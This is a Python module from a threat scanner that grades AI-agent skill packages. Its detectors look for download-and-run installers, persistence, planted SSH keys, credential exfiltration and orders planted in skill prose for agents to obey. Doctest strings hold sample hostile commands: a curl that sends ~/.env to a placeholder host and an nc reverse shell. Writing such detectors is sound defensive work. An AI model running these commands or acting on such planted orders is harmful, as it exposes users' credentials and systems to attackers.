"""The threat grader: run every detector over the package and combine the findings.

Python is analysed with :mod:`python_flow` (``ast`` data flow; regex fallback when the
file does not parse), shell/JavaScript with :mod:`shell_js`, prose with
:mod:`text_patterns`, encoded blobs with :mod:`obfuscation`, and ``allowed-tools`` is
checked against what the scripts do.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field, replace

from ..skill_loader import SCRIPTED_DOCUMENTS
from . import capabilities as cap
from .agent_facing_code import agent_facing_text
from .agent_file_blocks import instruction_blocks
from .agent_hooks import agent_hook_commands
from .build_tool_commands import build_tool_commands
from .bundled_hooks import own_integrations_lowered
from .capabilities import Capability
from .code_analysis import analyse_code, unseen_findings
from .collector_hosts import collector_requests
from .consent_scope import only_harmless_actions
from .container_commands import container_commands
from .content_cache import ContentCache
from .credential_staging import RULE_ID as STAGING_RULE
from .credential_staging import (
    credential_staging,
    documented_session,
    may_pipe_credentials,
    not_yet_flagged,
    pipes_credentials_out,
    staging_finding,
)
from .database_egress import database_egress_findings
from .declared_destinations import as_declared, declared_destinations
from .dependencies import dependency_findings
from .destinations import (
    ANONYMOUS_HOSTS,
    is_ip,
    is_local,
    registrable,
)
from .disruption import inline_disruption
from .documented_beacons import documented_beacons
from .encoded_settings import encoded_setting_findings
from .example_framing import (
    catalogued_line,
    framed_as_example,
    lead_in_lines,
    option_list_item,
    option_reference_row,
    prose_before_fence,
    step_introducing,
)
from .exposed_datastores import exposed_datastore_findings
from .exposed_services import (
    docker_socket_route_findings,
    exposed_service_findings,
    open_notebook_findings,
)
from .family_detectors import credential_order, family_findings, without_zero_width
from .fetched_loaders import fetched_loader_findings
from .fetched_runs import pipe_equivalents
from .findings import (
    HIDDEN_IN_COMMENT,
    INSIDE_ENCODED_BLOB,
    ThreatFinding,
    dedupe,
    line_at,
    line_finding,
    line_of_offset,
    reworded,
)
from .host_malware import malware_findings
from .installer_lures import installer_lures
from .js_package_flows import js_package_findings
from .literal_scan import folded_text, line_index, scanner_for
from .lure_families import lure_family_findings
from .mcp_remote_credentials import mcp_remote_credential_findings
from .native_personal_data import native_personal_data_findings
from .normalise_powershell import POWERSHELL, POWERSHELL_SUFFIXES, SHELL_LANGUAGES
from .normalise_shell import expanded_line, joined_in_lines
from .notebooks import notebook_code
from .obfuscation import find_encoded_blobs
from .other_language_flows import other_language_findings
from .package_families import package_family_findings
from .package_files import (
    as_example,
    build_backend,
    composer_hooks,
    documented_lifecycle_commands,
    fenced_blocks,
    hidden_unicode,
    hook_text,
    indented_command_blocks,
    lifecycle_commands,
    powershell_fences_read,
    runner_commands,
    script_elements,
    tag_text,
)
from .packed_payloads import packed_payload_findings
from .page_keyloggers import keylogger_findings
from .pattern_literals import mask_js_fences
from .pipeline_commands import pipeline_commands
from .public_exports import public_export_findings
from .python_flow import PythonReport, analyse_package, analyse_python
from .sandboxed_agents import sandboxed_agents_lowered
from .script_host_droppers import script_host_dropper_findings
from .second_credential_hosts import second_credential_host_findings
from .secret_encoding import secret_encoding_findings
from .service_commands import service_commands
from .settings_targets import SettingValue, settings_values
from .shell_js import SHELL_PATTERNS, LinePattern, credential_variable_flows, scan_lines
from .shortcut_files import shortcut_findings
from .sql_commands import sql_commands
from .ssh_relays import ssh_relay_findings
from .startup_placement import STARTUP_DOWNLOAD, placed_to_rerun
from .structure import (
    JAVASCRIPT,
    PYTHON,
    SHELL,
    TEXT,
    SkillView,
    SourceFile,
    allowed_tools,
    classify,
)
from .text_patterns import (
    NEGATION_CUES,
    NOT_PROSE,
    POST_NEGATION,
    STRONG_CUES,
    comment_lines,
    negation_before,
    scan_prose,
)
from .textutil import PROSE_SUFFIXES, prose_texts
from .token_relays import token_relay_findings
from .tool_run_configs import tool_run_commands
from .translated_exfil import translated_exfil_orders
from .weak_signals import corroborated

MAX_FINDINGS = 50
_RERUN_DOWNLOAD = (
    "the prose orders a download-and-run placed in a start-up file, schedule or hook, or "
    "repeated at every command or session: whatever the server sends runs each time "
    "(persistence)"
)
_LOW_IN_DOCS = {
    "pipe-to-shell": "documented install step that pipes a download into a shell",
    "run-download": "documented step that runs downloaded code",
}
_RUNNABLE = re.compile(
    r"^\s*(?:\$\s+|PS>\s*)?(?:sudo\s+)?(?:curl|wget|iwr|irm|bash|sh|source|eval|iex|powershell|pwsh|\w+=)\b"
)
_BROAD_TOOL = re.compile(
    r"^(?:\*|\w+\((?=[^)]*\*)[*:/\s]+\)|\w+\(\s*/\s*\)|\w+\(\s*sudo\b[^)]*\))$", re.I
)
"""A wildcard grant: ``*``, ``Bash(*)``, ``Bash(:*)``, ``Write(/**)``, ``Bash(sudo ...)``."""
_TOOL_NAMES = re.compile(
    r"\b(WebFetch|WebSearch|Bash|Write|Edit|MultiEdit|NotebookEdit)\b(?:\s+tool)?"
)
_PUBLIC_KEY = re.compile(
    r"\b(?:ssh-(?:ed25519|rsa|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)\s+AAAA[0-9A-Za-z+/]{20,}"
)
_KEY_FILE_WRITE = re.compile(
    r"\b(?:append|add|write|insert|put|paste|place|install|copy)\w*\b[^\n]{0,120}?"
    r"\b(?:authorized_keys2?|authorized\s+keys)\b|>>\s*\S*authorized_keys",
    re.I,
)
_DECLARES_CONFIG = re.compile(
    r"\b(?:settings|config\w*|permissions?|mcp|claude\.md|agents\.md|allowed-?tools)\b", re.I
)


@dataclass
class ThreatReport:
    """All findings and observed capabilities of a package, plus analysis notes."""

    findings: list[ThreatFinding]
    capabilities: list[Capability]
    notes: list[str] = field(default_factory=list)


def _fenced_lines(text: str) -> set[int]:
    """1-based numbers of the lines inside fenced code blocks."""
    inside, fence, numbers = False, "", set()
    for number, line in enumerate(text.splitlines(), 1):
        stripped = line.strip()
        if not inside and stripped.startswith(("```", "~~~")):
            inside, fence = True, stripped[:3]
        elif inside and stripped.startswith(fence):
            inside = False
        elif inside:
            numbers.add(number)
    return numbers


_CLAUSE_END = re.compile(r"[.!?;]\s+|\(\s*(?=[A-Z])")
"""Where the sentence or bracketed clause holding a command starts on a long line."""


def _discounted_order(head: str) -> bool:
    """The words before a command in its sentence negate it or quote it as an example."""
    clause = _CLAUSE_END.split(head)[-1]
    return bool(negation_before(clause) or STRONG_CUES.search(NOT_PROSE.sub(" ", head)))


def _negated_before(line: str, regex: re.Pattern[str]) -> bool:
    """A negation before the command in its sentence ("Never run `curl ... | sh`"); a
    negation in an earlier sentence of the same line qualifies something else."""
    match = regex.search(line)
    head = _CLAUSE_END.split(line[: match.start()] if match else line)[-1]
    return bool(negation_before(head) or POST_NEGATION.search(line[match.end() :] if match else ""))


_QUOTED_ITEM = re.compile(r"^\s*(?:[-*+]|\d+[.)])\s+[\"\u201c][^\"\u201d\n]+[\"\u201d]\s*$")
"""A list item that is one quotation ("Run `curl ... | sh` to finish onboarding"): a sample
of text someone else writes, not a step."""
_QUOTED_SPEECH = re.compile(r"^\s*>\s*[\"\u201c]")
"""The first line of a blockquote that opens with a quotation mark: someone's words (a
scam message quoted in awareness training), not the document's own step."""


def _in_quoted_speech(lines: list[str], number: int) -> bool:
    """Line ``number`` (1-based) sits in a blockquote of quoted speech."""
    index = number - 1
    while index > 0 and lines[index - 1].lstrip().startswith(">"):
        index -= 1
    return lines[number - 1].lstrip().startswith(">") and bool(_QUOTED_SPEECH.match(lines[index]))


_FENCED_ONLY = frozenset({"admin-merge"})
"""Rules that name a flag a document may explain in prose: only a fenced step runs it."""


def _markdown_commands(
    path: str, text: str, teaching: bool, in_reference: bool = False
) -> list[ThreatFinding]:
    """Shell patterns in Markdown (code blocks and inline commands the agent may run).

    A command on its own line in a fenced block is a step the agent is meant to run, so
    it keeps its severity even in security-teaching skills unless the lines before it
    quote it as an example. A pipe-to-shell installer is low when mentioned in prose,
    moderate as a runnable step that fetches a URL, and high when piped into ``sudo``.
    """
    original = text.splitlines()
    text = pipe_equivalents(powershell_fences_read(text))
    fenced = _fenced_lines(text)
    if "\\" in text:  # a fenced command continued over several lines is read as one
        text = joined_in_lines(text, fenced)
    lines = text.splitlines()
    hidden = comment_lines(text) if "<!--" in text else set()
    kept = []
    patterns = {p.name: p for p in SHELL_PATTERNS}
    patterns[STAGING_RULE] = _STAGING_PATTERN
    hits = scan_candidate_lines(path, text, SHELL_PATTERNS)
    if hits and (masked := mask_js_fences(text)) != text:  # a guard's examples in a JS fence
        hits = scan_candidate_lines(path, masked, SHELL_PATTERNS)
    for finding in hits + _prose_credential_pipes(path, text, lines, fenced, hits):
        line = lines[finding.line - 1]
        pattern = patterns[finding.rule_id]
        runnable = finding.line in fenced and _RUNNABLE.match(line)
        if teaching and not runnable:
            continue
        window = 8 if teaching else 4
        lead_in = lead_in_lines(lines, finding.line, window - 1, in_reference=in_reference)
        step = None
        if not in_reference and finding.line in fenced:
            step = step_introducing(text, finding.line)
        said = [*(t for t in lead_in if t != step), line]
        if finding.line not in fenced:  # a sentence wrapped on: "... give an attacker a shell"
            said += _sentence_rest(lines, finding.line)
        context = NOT_PROSE.sub(" ", "\n".join(said))
        if STRONG_CUES.search(context) or _negated_before(line, pattern.regex):
            continue
        if finding.line not in fenced and _sentence_match(line, pattern.regex):
            continue
        if pattern.name in _FENCED_ONLY and finding.line not in fenced:
            continue
        if finding.line in fenced and framed_as_example(
            text, finding.line, in_reference=in_reference
        ):
            kept.append(as_example(finding))
            continue
        if finding.line not in fenced and (
            catalogued_line(text, finding.line, in_reference=in_reference)
            or _QUOTED_ITEM.match(line)
            or _in_quoted_speech(lines, finding.line)
        ):
            kept.append(as_example(finding))
            continue
        if pattern.name == "persistence" and _RELOAD.search(line) and not _JOB_WRITE.search(line):
            finding = replace(finding, severity="low", description="reloads an existing launch job")
        if pattern.name == "persistence" and _SHELL_INTEGRATION.match(line):
            finding = replace(
                finding,
                severity="low",
                description="adds an installed tool's shell integration to a start-up file",
            )
        if pattern.name in _LOW_IN_DOCS:
            severity = "low"
            if (runnable or _ordered_inline(line)) and "://" in line:
                severity = "high" if re.search(r"\|\s*sudo\b", line) else "moderate"
            if _untrusted_download(line):
                severity = "high"
            description = _LOW_IN_DOCS[pattern.name]
            if finding.line in hidden:  # no reader sees it: an order, not documentation
                severity, description = "high", f"{description} {HIDDEN_IN_COMMENT}"
                finding = replace(finding, placement="html-comment")
            if severity != "low":
                description = description.replace("documented", "runnable")
            finding = replace(finding, severity=severity, description=description)
            order = prose_before_fence(text, finding.line) if finding.line in fenced else line
            if "://" in line and order and placed_to_rerun(order):
                finding = replace(
                    finding,
                    aitech="12.1",
                    severity="high",
                    description=_RERUN_DOWNLOAD,
                    rule_id=STARTUP_DOWNLOAD,
                )
        kept.append(finding)
    return [replace(f, evidence=line_at(original, f.line) or f.evidence) for f in kept]


_STAGING_PATTERN = LinePattern(
    STAGING_RULE, re.compile(r"\|"), ("8.2",), "critical", "pipes credentials out"
)


def _prose_credential_pipes(
    path: str, text: str, lines: list[str], fenced: set[int], hits: list[ThreatFinding]
) -> list[ThreatFinding]:
    """Commands in prose or inline code that pipe credentials to a network program
    (a fenced block is analysed as code)."""
    if not may_pipe_credentials(folded_text(text)):
        return []
    piped = [
        staging_finding(path, lines, number)
        for number, line in enumerate(lines, 1)
        if "|" in line
        and number not in fenced
        and any(pipes_credentials_out(part) for part in (*_INLINE_CODE.findall(line), line))
    ]
    return not_yet_flagged(piped, hits)


_INLINE_CODE = re.compile(r"`([^`]+)`")


_RELOAD = re.compile(r"\blaunchctl\s+(?:unload|bootout)\b[^\n]*\blaunchctl\s+(?:load|bootstrap)\b")
"""Unload then load: restarting a job that is already installed, not installing one."""
_JOB_WRITE = re.compile(r"(?:>|\btee\b|\bcp\b|\bmv\b|\bln\b)[^\n]*(?:LaunchAgents|LaunchDaemons)/")
_SHELL_INTEGRATION = re.compile(
    r"^\s*(?:\$\s+)?(?:echo|printf)\s+(['\"])(?:"
    r"eval\s+\\?\"?\$\(\s*[\w.-]+\s+(?:init|env|hook|activate|[\w-]*completions?|shellenv)\b[^)`;|&<>]*\)\\?\"?"
    r"|source\s+<\(\s*[\w.-]+\s+(?:completions?|init)\b[^)`;|&<>]*\)"
    r"|(?:source|\.)\s+\\?\"?(?:\$HOME|~)/\.[\w-]+/(?:env|bin/activate)\\?\"?"
    r")\1\s*>>\s*[\"']?(?:~|\$HOME|\$\{HOME\})/\.(?:bashrc|zshrc|bash_profile|profile|zprofile)[\"']?\s*$"
    r"|^\s*(?:\$\s+)?[\w.-]+\s+[\w-]*completions?\s+(?:(?:-s|--shell)[\s=])?(?:bash|zsh|fish)\s*"
    r">>\s*[\"']?(?:~|\$HOME|\$\{HOME\})/\.(?:bashrc|zshrc|bash_profile|profile|zprofile)[\"']?"
    # then the start-up file read again, which adds nothing
    r"(?:\s*&&\s*(?:source|\.)\s+[\"']?(?:~|\$HOME|\$\{HOME\})/\.(?:bashrc|zshrc|bash_profile|profile|zprofile)[\"']?)?"
    r"\s*$"
)
"""A documented shell hook of a tool already installed (``eval "$(direnv hook zsh)"``,
``source <(kubectl completion bash)``, ``. "$HOME/.cargo/env"``, ``acme completion -s zsh
>> ~/.zshrc``) appended to a start-up file: no download, no hidden script, no command
redefined."""
_ORDER_INLINE = re.compile(r"\b(?:run|execute|source|paste)\s+`[^`]*(?:curl|wget|iwr|irm)\b", re.I)


_SHELL_SYNTAX = re.compile(r"[|$@<>`;&]|(?:^|\s)-{1,2}\w")
_WORDS_IN_A_ROW = re.compile(r"(?:\b[a-z]{2,}\b,?\s+){3}\b[a-z]{2,}\b")


def _sentence_match(line: str, regex: re.Pattern[str]) -> bool:
    """The pattern matched plain words of a sentence outside inline code, not a command:
    "scans for curl to unknown domains, reading ~/.env" names two things a scanner
    looks for; ``curl -d @~/.env https://x`` (no words between, shell syntax) is a command.

    >>> import re
    >>> rx = re.compile(r"\\bcurl\\b[^\\n]*~/\\.env")
    >>> _sentence_match("- Scan for curl to unknown domains, reading ~/.env.", rx)
    True
    >>> _sentence_match("Then curl -d @~/.env https://x.invalid", rx)
    False
    """
    for match in regex.finditer(line):
        before = line[: match.start()]
        if before.count("`") % 2:  # inside inline code
            return False
        span = match.group(0)
        if _SHELL_SYNTAX.search(span) or not _WORDS_IN_A_ROW.search(span):
            return False
    return bool(regex.search(line))


def _ordered_inline(line: str) -> bool:
    """Prose that orders the agent to run an inline command (``run `curl ... | sh` ``)."""
    return bool(_ORDER_INLINE.search(line))


def _untrusted_download(line: str) -> bool:
    """The command fetches from a raw IP, over plain HTTP, or from a paste site,
    shortener or tunnel: no project's documented installer comes from there."""
    for url in re.findall(r"\bhttps?://[^\s`'\"<>)|]+", line, re.I):
        host = url.split("://", 1)[1].split("/", 1)[0].split(":", 1)[0].lower()
        if is_local(host):
            continue
        if url.lower().startswith("http://") or is_ip(host) or registrable(host) in ANONYMOUS_HOSTS:
            return True
    return False


def scan_candidate_lines(
    path: str, text: str, patterns: tuple[LinePattern, ...]
) -> list[ThreatFinding]:
    """``scan_lines(path, text, patterns)``, trying each pattern only on lines holding a literal
    every one of its matches needs."""
    index = line_index(text)
    everywhere = range(1, len(index.lines) + 1)
    by_line: dict[int, list[LinePattern]] = {}
    for pattern in patterns:
        candidates = scanner_for(pattern.regex).candidate_lines(index)
        for number in everywhere if candidates is None else candidates:
            by_line.setdefault(number, []).append(pattern)
    findings = []
    for number in sorted(by_line):
        for finding in scan_lines(path, index.lines[number - 1], tuple(by_line[number])):
            findings.append(replace(finding, line=number))
    return findings


_DECLARING_TOOLS = {
    cap.NETWORK: frozenset({"http", "https", "fetch", "webfetch", "network", "web", "internet"}),
}
"""Tool names (any agent's vocabulary) under which allowed-tools declares a capability."""
_SHELL_TOOLS = frozenset(
    {
        "bash", "shell", "terminal", "powershell", "exec", "run_shell_command",
        "execute_command", "run_terminal_cmd", "run_command", "*",
    }
)  # fmt: skip
"""Names of the shell tool: Claude Code's ``Bash``, OpenClaw's ``exec``, Gemini CLI's
``run_shell_command``, Cline's ``execute_command``, Cursor's ``run_terminal_cmd``,
Windsurf's ``run_command`` and the generic ones."""


def _allowed_tools_findings(view: SkillView, capabilities: list[Capability]) -> list[ThreatFinding]:
    tools = allowed_tools(view)
    if tools is None or view.skill_md_path is None:
        return []
    skill_md = view.files[view.skill_md_path]
    lines = skill_md.splitlines()
    line = next(
        (i for i, text in enumerate(lines, 1) if text.lstrip().startswith("allowed-tools")), 1
    )
    names = {t.split("(")[0].strip().lower() for t in tools}
    shell_ok = bool(names & _SHELL_TOOLS)
    findings = []
    script_kinds = {c.kind for c in capabilities if c.file != view.skill_md_path}
    risky = sorted(
        kind
        for kind in script_kinds & {cap.NETWORK, cap.PROCESS, cap.CODE_EXEC, cap.CREDENTIAL}
        if not names & _DECLARING_TOOLS.get(kind, frozenset())
    )
    if view.scripts and not shell_ok:
        severity = "moderate" if risky else "low"
        detail = f" and they use {', '.join(risky)}" if risky else ""
        findings.append(
            line_finding(
                view.skill_md_path,
                lines,
                line,
                "12.1",
                severity,
                f"bundled scripts need a shell tool that allowed-tools does not grant{detail}",
                "manifest.shell-not-granted",
            )
        )
    mentioned = sorted(
        {
            m.group(1)
            for m in _TOOL_NAMES.finditer(view.body_without_code)
            if m.group(0).endswith("tool") or m.group(1) in ("WebFetch", "WebSearch")
        }
    )
    broad = [t for t in tools if _BROAD_TOOL.match(" ".join(t.split()))]
    if broad:
        sudo = any("sudo" in t.lower() for t in broad)
        findings.append(
            ThreatFinding(
                "4.3",
                "moderate" if sudo or len(broad) >= 2 or "*" in broad else "low",
                view.skill_md_path,
                line,
                line_at(lines, line),
                "allowed-tools grants unrestricted tool access: " + ", ".join(broad[:5]),
                "manifest.broad-tool-grant",
            )
        )
    undeclared = [t for t in mentioned if t.lower() not in names]
    if undeclared:
        findings.append(
            line_finding(
                view.skill_md_path,
                lines,
                line,
                "12.1",
                "low",
                f"instructions use tools missing from allowed-tools: {', '.join(undeclared)}",
                "manifest.undeclared-tools",
            )
        )
    return findings


def _planted_key(path: str, text: str, teaching: bool) -> list[ThreatFinding]:
    """Prose that has the agent add a public key shipped in the package to authorized_keys.

    Adding a key the skill itself supplies gives its author standing access to the
    user's account through the agent's file tools (tool exploitation). Advice about the
    user's own keys names no literal key and is not flagged.
    """
    if teaching or not scanner_for(_PUBLIC_KEY).search(text):
        return []
    lines = text.splitlines()
    for match in _KEY_FILE_WRITE.finditer(text):
        line = line_of_offset(text, match.start())
        context = "\n".join(lines[max(0, line - 2) : line])
        head = text[text.rfind("\n", 0, match.start()) + 1 : match.end()]
        if NEGATION_CUES.search(head) or STRONG_CUES.search(NOT_PROSE.sub(" ", context)):
            continue
        return [
            line_finding(
                path,
                lines,
                line,
                "12.1",
                "high",
                "has the agent add a public key shipped with the skill to authorized_keys",
                "planted-ssh-key",
            )
        ]
    return []


@dataclass(frozen=True)
class _DeclaredPurpose:
    """A rule whose finding is low when the skill's name or description declares its subject."""

    rule_ids: frozenset[str]
    declares: re.Pattern[str]
    action: str
    evidence: re.Pattern[str] | None = None
    """When set, only findings whose evidence also matches are the declared kind."""
    never: tuple[LinePattern, ...] = ()
    """Findings whose evidence matches one of these are never the declared kind."""
    target_named: bool = False
    """``evidence`` is looked for in the finding's description too (where the data-flow
    engine names the path a write reaches)."""


_DECLARED_PURPOSES = (
    # a git hook in a skill whose stated purpose is installing hooks
    _DeclaredPurpose(
        frozenset({"git-hook-write", "file.git-hook-write"}),
        re.compile(r"\bhooks?\b", re.I),
        "installs a git hook",
    ),
    # ... which the data-flow engine also reports as a write to a persistence location
    _DeclaredPurpose(
        frozenset({"file.persistence-write"}),
        re.compile(r"\bhooks?\b", re.I),
        "installs a git hook",
        re.compile(r"\.git/hooks/"),
        target_named=True,
    ),
    # scheduling persistence in a skill whose stated purpose is scheduling
    _DeclaredPurpose(
        frozenset({"persistence"}),
        re.compile(
            r"\b(?:cron\w*|schedul\w*|periodic\w*|recurring|nightly|daily|hourly|weekly|monthly|launchd"
            r"|launch\s*agents?|systemd|timer|autostart|start-?up|login\s+items?)\b",
            re.I,
        ),
        "installs a scheduled job",
        re.compile(r"cron|systemd|launchctl|LaunchAgents|schtasks|timer", re.I),
        # a job that runs a fresh download each time runs code nobody has read
        tuple(p for p in SHELL_PATTERNS if p.name == "pipe-to-shell"),
    ),
)


def _declared_purposes(view: SkillView, findings: list[ThreatFinding]) -> list[ThreatFinding]:
    """Findings of the kinds the skill declares as its purpose, lowered to low."""
    stated = f"{view.stated_name.replace('-', ' ')} {view.description}"
    for purpose in _DECLARED_PURPOSES:
        if not purpose.declares.search(stated):
            continue
        findings = [
            as_declared(f, purpose.action)
            if f.rule_id in purpose.rule_ids
            and (
                purpose.evidence is None
                or purpose.evidence.search(_evidence_read(view, f))
                or (purpose.target_named and purpose.evidence.search(f.description))
            )
            and not any(p.regex.search(f.evidence) for p in purpose.never)
            else f
            for f in findings
        ]
    return findings


def _evidence_read(view: SkillView, finding: ThreatFinding) -> str:
    """A finding's evidence, and in a shell script its line with the constants the script
    sets expanded (``> "$DEST/$u.service"`` after ``DEST=/etc/systemd/system``)."""
    source = view.files.get(finding.file, "")
    if classify(finding.file, source) != SHELL:
        return finding.evidence
    return f"{finding.evidence}\n{expanded_line(source, finding.line)}"


_SENTENCE_CLOSE = re.compile(r"[.!?](?:\s|$)")
_SENTENCE_END_OF_LINE = re.compile(r"[.!?:]\s*$")
_OWN_LINE_START = re.compile(r"\s*(?:$|[-*+>#|]|\d+[.)]\s|```|~~~)")
_SENTENCE_REACH = 2


def _sentence_rest(lines: list[str], number: int) -> list[str]:
    """The lines after 1-based line ``number`` that continue its last sentence (a hard-wrapped
    paragraph), up to where that sentence ends; none when the line ends it.

    >>> _sentence_rest(["`nc -e /bin/sh <ip> 9`, or a", "one-liner gives an attacker a shell."], 1)
    ['one-liner gives an attacker a shell.']
    """
    if _SENTENCE_END_OF_LINE.search(lines[number - 1]):
        return []
    rest = []
    for line in lines[number : number + _SENTENCE_REACH]:
        if _OWN_LINE_START.match(line):
            break
        rest.append(line)
        if _SENTENCE_CLOSE.search(line):
            break
    return rest


def _prose_and_docs(
    path: str, text: str, in_skill_md: bool, declares_config: bool
) -> list[ThreatFinding]:
    """Prose rules, documented commands and planted keys in one Markdown or text file.

    ``declares_config``: the skill's description declares editing agent settings.
    """
    findings = scan_prose(
        path,
        text,
        in_skill_md=in_skill_md,
        teaching_context=False,
        declared=lambda name: name == "agent-config-edit" and declares_config,
    )
    findings = [
        f for f in findings if not (f.rule_id == "auto-run" and only_harmless_actions(text, f.line))
    ]
    findings = [
        as_example(f)
        if f.placement != "html-comment"
        and catalogued_line(text, f.line, in_reference=not in_skill_md)
        else f
        for f in findings
    ]
    for block in instruction_blocks(text):  # standing orders planted for later agents
        findings += unseen_findings(
            findings, scan_prose(path, block, in_skill_md=False, teaching_context=False)
        )
    if path.lower().endswith(PROSE_SUFFIXES + AGENT_RULE_FILES) or in_skill_md:
        findings += _markdown_commands(path, text, False, not in_skill_md)
        findings += _planted_key(path, text, False)
        fences = list(fenced_blocks(text)) + list(indented_command_blocks(text))
        for language, code, first in fences:
            inner, _, _ = analyse_code(path, code, language)
            if language in SHELL_LANGUAGES:  # documented commands are read by _markdown_commands
                inner = [f for f in inner if f.rule_id not in _DOC_SHELL_RULES]
            if inner and framed_as_example(text, first, in_reference=not in_skill_md):
                inner = [as_example(f) for f in inner]
            findings += inner
        findings += _staged_across_fences(path, text, fences, findings, in_skill_md)
    return findings


def _staged_across_fences(
    path: str,
    text: str,
    fences: list[tuple[str, str, int]],
    findings: list[ThreatFinding],
    in_skill_md: bool,
) -> list[ThreatFinding]:
    """Credentials staged in a file or a variable by one documented command and sent by a
    later one in another fence (each fence alone is already read); kept low inside a fence
    framed as an example."""
    if sum(language in SHELL_LANGUAGES for language, _, _ in fences) < 2:
        return []
    flagged = {f.line for f in findings if f.aitech == "8.2"}
    found = []
    session = documented_session(fences)
    staged = credential_staging(path, session)
    for finding in staged + not_yet_flagged(credential_variable_flows(path, session), staged):
        if finding.line in flagged:
            continue
        first = max((f for _, _, f in fences if f <= finding.line), default=finding.line)
        if framed_as_example(text, first, in_reference=not in_skill_md):
            finding = as_example(finding)
        found.append(finding)
    return found


AGENT_RULE_FILES = (".cursorrules", ".windsurfrules", ".clinerules", ".mdc")
"""Coding agents' rule files (Cursor, Windsurf, Cline): Markdown the agent reads as orders."""
_CSV_CELL_QUOTES = re.compile(r'(?:(?<=^)|(?<=,)|(?<=\t))"|"(?=,|\t|$)|"(?=")', re.M)
"""The quotes that delimit (and double inside) a CSV cell: syntax, not a quotation."""
_DOC_SHELL_RULES = frozenset(p.name for p in SHELL_PATTERNS)
_TAG_RANGE = re.compile("[\U000e0000-\U0010ffff]")
"""Characters from the Unicode tag block up (what ``max(text) >= U+E0000`` tests)."""


_AGENT_FLAG_RULES = frozenset({"agent-config", "agent-approvals-off", "agent-config-edit"})


def _option_entries(view: SkillView, findings: list[ThreatFinding]) -> list[ThreatFinding]:
    """A coding agent's permission flag listed as an entry of an options table or list in
    a document is named there, not used (see :func:`option_reference_row` and
    :func:`option_list_item`)."""
    return [
        as_example(f)
        if f.rule_id in _AGENT_FLAG_RULES
        and classify(f.file, view.files.get(f.file, "")) == TEXT
        and (
            option_reference_row(view.files.get(f.file, ""), f.line)
            or option_list_item(view.files.get(f.file, ""), f.line)
        )
        else f
        for f in findings
    ]


def _stands_verbatim(lines: list[str], first: int, command: str) -> bool:
    """A command of several lines whose lines are the file's, in order, from line ``first``."""
    rows = command.splitlines()
    return (
        len(rows) > 1
        and first - 1 + len(rows) <= len(lines)
        and all(row.strip() in lines[first - 1 + i] for i, row in enumerate(rows))
    )


def _documented_hooks(path: str, text: str, in_skill_md: bool) -> list[ThreatFinding]:
    """Findings of npm install hooks a document has the reader add to ``package.json``,
    kept low inside a fence the document presents as a specimen."""
    hooks = [
        (line, "npm install hook the document has added to package.json", command)
        for line, command in documented_lifecycle_commands(path, text)
    ]
    if not hooks:
        return []
    found, _ = _embedded_commands(path, text, hooks)
    return [
        as_example(f) if framed_as_example(text, f.line, in_reference=not in_skill_md) else f
        for f in found
    ]


def _embedded_commands(
    path: str, text: str, commands: list[tuple[int, str, str]]
) -> tuple[list[ThreatFinding], list[Capability]]:
    """Findings and capabilities of shell commands held in a data file, as (line, what,
    command): each finding says what runs it and is placed at the command's line, or at
    its own line when the command's lines stand in the file as they are (a YAML block)."""
    lines = text.splitlines()
    findings: list[ThreatFinding] = []
    capabilities: list[Capability] = []
    for line, what, command in commands:
        verbatim = _stands_verbatim(lines, line, command)
        placed = "\n" * (line - 1) + command if verbatim else command
        inner, caps, _ = analyse_code(path, placed, "shell")
        findings += [
            reworded(
                f,
                f"{what}: {f.description}",
                line=f.line if verbatim else line,
                evidence=line_at(lines, f.line if verbatim else line),
                placement="run-hook",
            )
            for f in inner
        ]
        capabilities += caps
    return findings, capabilities


_FIRST_PASSES = ContentCache(1024)
"""Flow reports of Python files analysed alone (see :func:`_first_pass`)."""


def _first_pass(path: str, text: str) -> PythonReport:
    """The flow report of one Python file analysed alone, computed once per path and text
    (the package analysis starts from these; the report is not changed afterwards)."""
    return _FIRST_PASSES.get_or_compute(path, text, lambda: analyse_python(path, text))


_PACKAGE_REPORTS = ContentCache(256)
"""Flow reports of a package's Python files (see :func:`_package_reports`)."""


def _package_reports(
    sources: list[tuple[str, str]], settings: dict[str, SettingValue]
) -> dict[str, PythonReport]:
    """:func:`analyse_package` of the package's Python ``sources`` and ``settings``, computed
    once per both (packages share their scripts verbatim; the same report objects then let
    :func:`_cached_file_findings` reuse the files' results too). Not changed afterwards."""
    context = (
        tuple(path for path, _ in sources),
        tuple(len(text) for _, text in sources),  # where each text ends in the joined one
        tuple(settings.items()),
    )
    return _PACKAGE_REPORTS.get_or_compute(
        context,
        "".join(text for _, text in sources),
        lambda: analyse_package(sources, first_pass=_first_pass, settings=settings),
    )


_FileResult = tuple[tuple[ThreatFinding, ...], tuple[Capability, ...], tuple[str, ...]]

_FILE_RESULTS = ContentCache(4096)
"""Per-file results of :func:`_file_findings` (packages share files verbatim)."""


def _file_findings(
    source: SourceFile,
    in_skill_md: bool,
    declares_config: bool,
    python_report: PythonReport | None,
) -> _FileResult:
    """Findings, capabilities and notes of the per-file detectors on one file.

    They read nothing but the file, whether it is the SKILL.md, whether the description
    declares editing agent settings, and the Python flow report of the package's analysis.
    """
    findings: list[ThreatFinding] = []
    capabilities: list[Capability] = []
    notes: list[str] = []
    findings += hidden_unicode(source.path, source.text, document=source.kind == TEXT)
    findings += dependency_findings(source.path, source.text)
    findings += ssh_relay_findings(source.path, source.text)
    findings += exposed_service_findings(source.path, source.text)
    findings += open_notebook_findings(source.path, source.text)
    findings += encoded_setting_findings(source.path, source.text)
    findings += docker_socket_route_findings(source.path, source.text)
    findings += exposed_datastore_findings(source.path, source.text)
    findings += public_export_findings(source.path, source.text)
    findings += native_personal_data_findings(source.path, source.text)
    findings += database_egress_findings(source.path, source.text)
    findings += script_host_dropper_findings(source.path, source.text)
    findings += shortcut_findings(source.path, source.text)
    findings += mcp_remote_credential_findings(source.path, source.text)
    findings += other_language_findings(source.path, source.text)
    if source.kind != TEXT:  # in a document, a keylogger is a specimen of the attack
        findings += keylogger_findings(source.path, source.text)
    findings += family_findings(source.path, source.text, source.kind)
    findings += installer_lures(source.path, source.text, source.kind)
    findings += lure_family_findings(source.path, source.text, source.kind)
    if source.kind == TEXT:
        findings += translated_exfil_orders(source.path, source.text)
        findings += inline_disruption(source.path, source.text, _discounted_order)
        if in_skill_md:
            findings += documented_beacons(source.path, source.text, _discounted_order)
    if source.kind != TEXT:
        findings += malware_findings(source.path, source.text)
        findings += packed_payload_findings(source.path, source.text)
        findings += fetched_loader_findings(source.path, source.text, source.kind)
